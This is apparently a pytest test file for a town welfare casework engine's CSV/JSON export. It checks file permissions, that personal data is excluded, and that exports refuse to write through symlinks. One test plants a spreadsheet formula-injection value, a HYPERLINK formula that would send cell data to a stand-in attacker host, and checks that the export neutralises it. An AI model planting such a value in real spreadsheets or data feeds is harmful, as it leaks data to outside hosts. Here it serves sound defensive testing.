"""Exports for the coordinator (engine/store/export.py): cases, flags, the outbox and meetings of a
small town as CSV and JSON, owner-only, with no name, kana, address or birth date in them."""

from __future__ import annotations

import csv
import json
import os

import pytest

from engine.store.db import connect
from engine.store.export import EXPORTS, export
from tests.helpers.casework import open_cases
from tests.helpers.town import add_household, person

CASE_COLUMNS = (
    "case_id,household_id,status,is_open,opened_on,closed_on,severity,conference_type,meeting_id,routed_to,"
    "lead_agency_id,lead_rule_id,lead_confirmed_on,consent_state,previous_case_id,reopen_count,rules_hash,config_hash"
).split(",")


@pytest.fixture
def town(conn, workspace, rules, cfg):
    """Two 8050 households with cases booked, and a household flagged for nothing."""
    open_cases(conn, workspace, rules, cfg, "H1", "H2")
    add_household(conn, "H3", person(40, "世帯主"), area="北部")
    return conn


def personal_data(conn) -> set[str]:
    out = set()
    for name, kana, birth in conn.execute("SELECT name, kana, birth_date FROM persons"):
        out |= {name, kana, birth, *name.split(), *kana.split()}
    out |= {address for (address,) in conn.execute("SELECT address FROM households")}
    return {text for text in out if text}


def read_csv(path, encoding="utf-8"):
    with open(path, newline="", encoding=encoding) as f:
        return list(csv.DictReader(f))


def test_csv_export_writes_each_table_owner_only(town, tmp_path):
    folder = tmp_path / "exports" / "2026-11-27"
    done = export(town, folder)
    assert [(e.table, e.path.name) for e in done] == [(t, f"{t}.csv") for t in EXPORTS]
    assert (folder.stat().st_mode & 0o777) == 0o700 and (folder.parent.stat().st_mode & 0o777) == 0o700
    for e in done:
        assert (e.path.stat().st_mode & 0o777) == 0o600
        assert e.rows == len(read_csv(e.path)) == town.execute(f"SELECT COUNT(*) FROM {e.table}").fetchone()[0]
    assert sorted(os.listdir(folder)) == sorted(f"{t}.csv" for t in EXPORTS)  # no temporary file left
    cases = read_csv(folder / "cases.csv")
    assert {c["household_id"] for c in cases} == {"H1", "H2"}
    assert all(c["status"] == "convened" and c["meeting_id"].startswith("M-") for c in cases)
    flags = read_csv(folder / "flags.csv")
    case_of = {c["household_id"]: c["case_id"] for c in cases}
    assert flags and all(f["case_id"] == case_of[f["household_id"]] for f in flags)
    assert {m["meeting_id"] for m in read_csv(folder / "meetings.csv")} >= {c["meeting_id"] for c in cases}
    assert read_csv(folder / "outbox.csv"), "the night queued the agendas"


def test_no_personal_data_and_no_free_text_leaves_in_an_export(town, tmp_path):
    secrets = personal_data(town)
    assert "試験 太郎" in secrets and "テスト町1-1" in secrets
    for fmt in ("csv", "json"):
        for e in export(town, tmp_path / fmt, fmt=fmt):
            text = e.path.read_text(encoding="utf-8")
            assert not [s for s in secrets if s in text], e.path
            for column in ("name", "kana", "address", "birth_date", "evidence", "parts", "lead_reason", "basis"):
                assert f'"{column}"' not in text and f"{column}," not in text.split("\n")[0] + ","


def test_json_export_holds_the_same_rows_as_csv(town, tmp_path):
    as_csv = {e.table: read_csv(e.path) for e in export(town, tmp_path / "csv")}
    for e in export(town, tmp_path / "json", fmt="json"):
        rows = json.loads(e.path.read_text(encoding="utf-8"))
        assert len(rows) == e.rows == len(as_csv[e.table])
        as_text = [{k: "" if v is None else str(v) for k, v in row.items()} for row in rows]
        assert as_text == as_csv[e.table]
    cases = json.loads((tmp_path / "json" / "cases.json").read_text(encoding="utf-8"))
    assert all(c["reopen_count"] == 0 and c["is_open"] == 1 for c in cases)  # numbers stay numbers


def test_export_from_a_read_only_connection_of_some_tables(town, workspace, tmp_path):
    ro = connect(workspace, readonly=True)
    try:
        done = export(ro, tmp_path / "x", tables=["meetings", "cases"], encoding="utf-8-sig")
    finally:
        ro.close()
    assert [e.table for e in done] == ["meetings", "cases"]
    assert (tmp_path / "x" / "cases.csv").read_bytes().startswith(b"\xef\xbb\xbfcase_id,")  # Excel reads the BOM
    assert read_csv(tmp_path / "x" / "cases.csv", encoding="utf-8-sig")[0]["case_id"].startswith("C-")
    with pytest.raises(ValueError, match="no export for persons"):
        export(town, tmp_path / "y", tables=["persons"])
    assert not (tmp_path / "y").exists()


def test_an_empty_workspace_exports_headers_only(conn, tmp_path):
    for e in export(conn, tmp_path):
        assert e.rows == 0
        header = e.path.read_text(encoding="utf-8").strip()
        assert header and "\n" not in header
    with open(tmp_path / "cases.csv", newline="", encoding="utf-8") as f:
        assert next(csv.reader(f)) == CASE_COLUMNS
    assert json.loads(export(conn, tmp_path, fmt="json", tables=["cases"])[0].path.read_text()) == []


def test_an_export_replaces_a_link_at_its_path_without_writing_through_it(town, tmp_path):
    target = tmp_path / "elsewhere.txt"
    target.write_text("keep", encoding="utf-8")
    folder = tmp_path / "out"
    folder.mkdir(mode=0o700)
    (folder / "cases.csv").symlink_to(target)
    export(town, folder, tables=["cases"])
    assert target.read_text(encoding="utf-8") == "keep"
    assert not (folder / "cases.csv").is_symlink()


def test_an_exported_cell_never_runs_as_a_formula(conn, workspace, rules, cfg, tmp_path):
    """A household id from a hostile extract (=HYPERLINK…) is text in the export's CSV, as in every
    other CSV the engine writes (found by a security review)."""
    import csv as csvmod

    from engine.store.export import export
    from tests.helpers.conference import cycle
    from tests.helpers.town import add_household, elder_and_son

    hid = '=HYPERLINK("http://evil.example/?"&A1,"H1")'
    add_household(conn, hid, *elder_and_son(), area="中央")
    cycle(conn, workspace, rules, cfg)
    (files,) = [export(conn, tmp_path / "export", tables=("cases",))]
    cells = [c for row in csvmod.reader(files[0].path.open(encoding="utf-8")) for c in row]
    assert "'" + hid in cells and hid not in cells
